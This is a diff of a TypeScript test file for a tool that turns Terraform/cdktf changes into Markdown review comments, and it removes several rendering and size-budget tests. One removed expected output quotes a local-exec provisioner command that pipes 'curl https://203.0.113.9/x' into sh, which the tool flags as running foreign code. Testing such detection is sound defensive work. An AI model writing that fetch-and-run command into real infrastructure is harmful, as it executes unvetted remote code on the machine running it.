@@ -1,15 +1,11 @@
 import { describe, expect, test } from 'vitest';
 import { renderMarkdown } from '../../../src/review/render/markdown';
-import type { Report } from '../../../src/review/report/report';
+import { sectionOf } from '../fixtures/markdown';
 import { pullRequest } from '../fixtures/pull-request';
 import { readingChange, readingReport } from '../fixtures/readings';
-import { change, huge, report, stack, unchanged } from '../fixtures/report';
+import { change, report, stack, unchanged } from '../fixtures/report';
 
 const line = (text: string, start: string): string => text.split('\n').find((one) => one.startsWith(start)) ?? '';
-
-/** The text of a section, by its title. */
-const sectionOf = (text: string, title: string): string =>
-  text.split(/\n(?=### |<details>)/).find((one) => one.startsWith(`### ${title}`)) ?? '';
 
 describe('the comment', () => {
   test('begins with a hidden marker, by which a job finds it again, and the verdict', () => {
@@ -49,60 +45,6 @@ describe('the comment', () => {
       '### Destroyed, replaced or moved',
     ]);
     expect(text).toContain('\n- **Runs code**: that is not of this repository, in 1 stack\n');
-  });
-
-  test('says what differs beside the changes of resources, where, and what keeps it', () => {
-    expect(sectionOf(renderMarkdown(pullRequest), 'Runs code').split('\n').slice(2)).toEqual([
-      '- **runs code** runs a local-exec provisioner: curl `https://203.0.113.9/x` <code>&#124;</code> sh',
-      '  - Where: `data-prod` `Clusters/main/NodePools/batch` at `examples/orbital/landing-zone.ts:132`',
-      '  - Differs: `provisioner[0].local-exec.command`: + <code>curl https&#58;//203.0.113.9/x &#124; sh</code>',
-      '- **other provider** provider ovh is 2.20.0 instead of 2.19.0',
-      '  - Where: `terraform.required_providers` of 2 stacks: `organization`, `data-prod`',
-      '  - Differs: `ovh.version`: `2.19.0` → `2.20.0`',
-      '- **state moves** the state moves from local to s3: Terraform finds none there, and would make everything again',
-      '  - Where: `data-prod` `terraform.backend`',
-      '  - Differs: `s3.bucket`: + `orbital-states`',
-      '  - Keep it with: `terraform -chdir=cdktf.out/stacks/data-prod state pull > data-prod.tfstate  # in the output of the base`',
-      '  - Keep it with: `terraform -chdir=cdktf.out/stacks/data-prod init`',
-      '- **guard removed** its value is no longer hidden (sensitive)',
-      '  - Where: `data-prod` `output.kubeconfig`',
-      '  - Differs: `sensitive`: - `true`',
-      '- **unread** configuration beside what cdktf wrote is new',
-      '  - Where: `data-prod` `extra.tf`',
-      '',
-    ]);
-  });
-
-  test('says once what is the same in many stacks, and counts those that nobody would read', () => {
-    const stacks = [...Array(22).keys()].map((n) =>
-      stack({
-        id: `stack-${n}`,
-        findings: [
-          {
-            class: 'provider',
-            stack: `stack-${n}`,
-            where: 'terraform.required_providers',
-            says: 'provider ovh is 2.20.0 instead of 2.19.0',
-            attributes: [],
-          },
-        ],
-      }),
-    );
-    expect(
-      sectionOf(renderMarkdown(report({ stacks })), 'Other provider')
-        .split('\n')
-        .slice(2),
-    ).toEqual([
-      '- **other provider** provider ovh is 2.20.0 instead of 2.19.0',
-      '  - Where: `terraform.required_providers` of 22 stacks: `stack-0`, `stack-1`, `stack-2`, `stack-3`, `stack-4`, `stack-5`, `stack-6`, `stack-7`, and 14 more',
-      '',
-    ]);
-  });
-
-  test('folds what else differs in its stack', () => {
-    expect(renderMarkdown(pullRequest)).toContain(
-      '\n- and 2 other differences: data source is new: `Account`; output differs: `output.url`\n',
-    );
   });
 
   test('says why something is replaced, what is lost, and the line of code', () => {
@@ -251,79 +193,5 @@ describe('the comment', () => {
     expect(sectionOf(text, 'Exposure')).toContain('port 33 is open');
     expect(sectionOf(text, 'Exposure')).not.toContain('port 32 is open');
     expect(text).toContain('<details><summary>Exposure: 39 more rows</summary>');
-  });
-});
-
-describe('the budget', () => {
-  const bytes = (text: string) => Buffer.byteLength(text);
-
-  /** How many of the report's resources a comment shows or counts, in the parts that list all of them. */
-  const countedIn = (text: string): number => {
-    const stacks = text.slice(text.indexOf('### Stacks'));
-    const shown = stacks.match(/^- \*\*\w+\*\* /gm)?.length ?? 0;
-    const cut = [...stacks.matchAll(/^- .*?: .*$/gm)]
-      .flatMap(([one]) => [...one.matchAll(/(\d+) `ovh_/g)])
-      .reduce((sum, [, n]) => sum + Number(n), 0);
-    const more = [...stacks.matchAll(/and (\d+) more (?:resources|change)/g)].reduce(
-      (sum, [, n]) => sum + Number(n),
-      0,
-    );
-    return shown + cut + more;
-  };
-
-  const shapes: readonly (readonly [number, number])[] = [
-    [200, 200],
-    [1, 5_000],
-    [3_000, 2],
-    [30, 30],
-    [12, 12],
-  ];
-  test.each(shapes)(
-    'keeps %i stacks with %i changes under 60,000 characters and counts each change',
-    (stacks, each) => {
-      const text = renderMarkdown(huge(stacks, each));
-      expect(text.length).toBeLessThan(60_000);
-      expect(bytes(text)).toBeLessThan(60_000);
-      expect(countedIn(text)).toBe(stacks * each);
-    },
-  );
-
-  test('uses what there is before it cuts', () => {
-    expect(bytes(renderMarkdown(huge(200, 200)))).toBeGreaterThan(55_000);
-  });
-
-  test('shows destructive changes complete as far as they fit, then counts them by stack and type', () => {
-    const text = sectionOf(renderMarkdown(huge(1, 1_000)), 'Destroyed');
-    const shown = text.match(/^- \*\*replace\*\*/gm)?.length ?? 0;
-    const counted = /Not shown:\n\n- `team-0-prod`: (\d+) `ovh_\w+`, (\d+) `ovh_\w+`\n/.exec(text) ?? [];
-    expect(shown).toBeGreaterThan(50);
-    expect(shown + Number(counted[1]) + Number(counted[2])).toBe(333);
-  });
-
-  test('keeps the verdict, the access table, the limits and the digest, however much is destroyed', () => {
-    const text = renderMarkdown(huge(200, 200));
-    expect(text).toContain('200 stacks changed: +13400 ~13200 ±13400');
-    expect(text).toContain('Access: 200 rows');
-    expect(text).toContain('- nobody looked at the prices');
-    expect(text).toContain('Digest of this review');
-  });
-
-  test('cuts no row, no folded part and no character in two', () => {
-    const long = (some: Report): Report =>
-      report({
-        ...some,
-        stacks: some.stacks.map((one) => ({
-          ...one,
-          changes: one.changes.map((each) => ({ ...each, loses: '🧨 é '.repeat(400) })),
-        })),
-      });
-    for (const limit of [60_000, 59_999, 59_998, 45_003, 45_001]) {
-      const text = renderMarkdown(long(huge(9, 60)), { limit });
-      expect(bytes(text)).toBeLessThan(limit);
-      expect(text).not.toMatch(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|�/);
-      expect(text.match(/<details>/g)?.length).toBe(text.match(/<\/details>/g)?.length);
-      const rows = text.split('\n').filter((row) => row.startsWith('|'));
-      expect(rows.filter((row) => !row.endsWith('|'))).toEqual([]);
-    }
   });
 });
